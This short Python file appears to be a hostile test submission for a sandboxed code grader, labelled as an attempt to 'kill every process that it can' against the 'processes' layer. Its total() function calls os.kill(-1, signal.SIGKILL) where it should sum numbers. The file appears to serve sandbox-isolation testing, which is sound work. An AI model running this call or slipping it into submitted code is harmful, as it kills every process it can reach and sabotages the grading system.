#: attempts = "kill every process that it can"
#: number = 26
#: layer = "processes"
#: exercise = "ch01/ex01"
#: namespaces_says = {test_total = "returned -1|SIGKILL|ended"}
import os
import signal


def total(numbers):
    os.kill(-1, signal.SIGKILL)
    return -1


def loot():
    return "nothing"
